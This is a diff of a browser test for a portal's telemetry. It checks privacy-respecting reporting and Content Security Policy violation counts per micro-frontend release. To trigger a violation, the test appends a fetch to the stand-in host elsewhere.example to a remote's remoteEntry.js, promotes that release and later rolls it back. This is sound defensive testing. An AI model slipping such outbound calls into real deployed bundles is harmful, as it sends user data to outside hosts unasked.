@@ -4,7 +4,7 @@ import { newAccount, signUp } from "../pages/account.ts";
 import { expect, test } from "../support/portal-test.ts";
 import { releasesOf } from "../support/releases.ts";
 
-const soon = { timeout: 90_000 };
+const soon = { timeout: 60_000 };
 
 /** What a page sends to the service about itself. */
 function noteSent(page: Page): { readonly bodies: unknown[] } {
@@ -42,21 +42,33 @@ test("loads, failures, web vitals and violations are told without names, shown b
     for (const name of [account.userName, account.email, "http"]) expect(text).not.toContain(name);
   });
 
-  await test.step("a visitor's page tells, too, unless the browser asks for privacy; a violation of the policy is counted by its directive", async () => {
-    for (const privacy of [false, true]) {
-      const context = await browser.newContext({ baseURL: portal.origin });
+  await test.step("a violation of the policy is counted by the remote whose code it was; a visitor's page tells, unless the browser asks for privacy", async () => {
+    const former = await releases.stable("sharing");
+    const calling = await releases.makeNext("sharing", "remoteEntry.js", (text) => `${text}\n;fetch("https://elsewhere.example/?who=alba").catch(() => null);`);
+    expect(await releases.command("promote", calling)).toMatchObject({ ok: true });
+    for (const privacy of [true, false]) {
+      const context = await browser.newContext({ baseURL: portal.origin }); // beside the spec's own, in which nothing may be refused
       if (privacy) await context.addInitScript(() => Object.defineProperty(Navigator.prototype, "globalPrivacyControl", { get: () => true }));
       const visitor = await context.newPage();
       const told = noteSent(visitor);
+      const before = await status();
+      await visitor.clock.install();
       await visitor.goto(`/shared/${"A".repeat(22)}`);
       await visitor.getByRole("heading", { level: 1 }).waitFor();
-      if (!privacy) await visitor.evaluate(() => fetch("https://elsewhere.example/?who=alba").catch(() => null));
-      await visitor.goto("/silent-renew.html"); // hides the page
-      if (privacy) expect(told.bodies).toEqual([]);
-      else await expect.poll(() => told.bodies.length).toBeGreaterThan(0);
-      if (!privacy) await expect.poll(status, soon).toMatch(/violated connect-src {2}1/);
+      await visitor.waitForLoadState("networkidle");
+      await visitor.clock.fastForward(15_000); // what is noted goes after ten
+      if (privacy) {
+        await visitor.goto("/silent-renew.html"); // or when the page is hidden
+        expect(await status()).toBe(before);
+        expect(told.bodies).toEqual([]);
+      } else {
+        await expect.poll(() => told.bodies).toContainEqual(expect.objectContaining({ events: expect.arrayContaining([expect.objectContaining({ remote: "sharing", release: calling, phase: "load" })]) as unknown }));
+        await expect.poll(status, soon).toMatch(new RegExp(`  sharing  ${calling}  violated connect-src  [12]`));
+      }
       await context.close();
     }
+    expect(await releases.command("rollback", "sharing")).toMatchObject({ ok: true });
+    expect(await releases.stable("sharing")).toBe(former);
   });
 
   await test.step("whoever switched it off sends nothing any more", async () => {
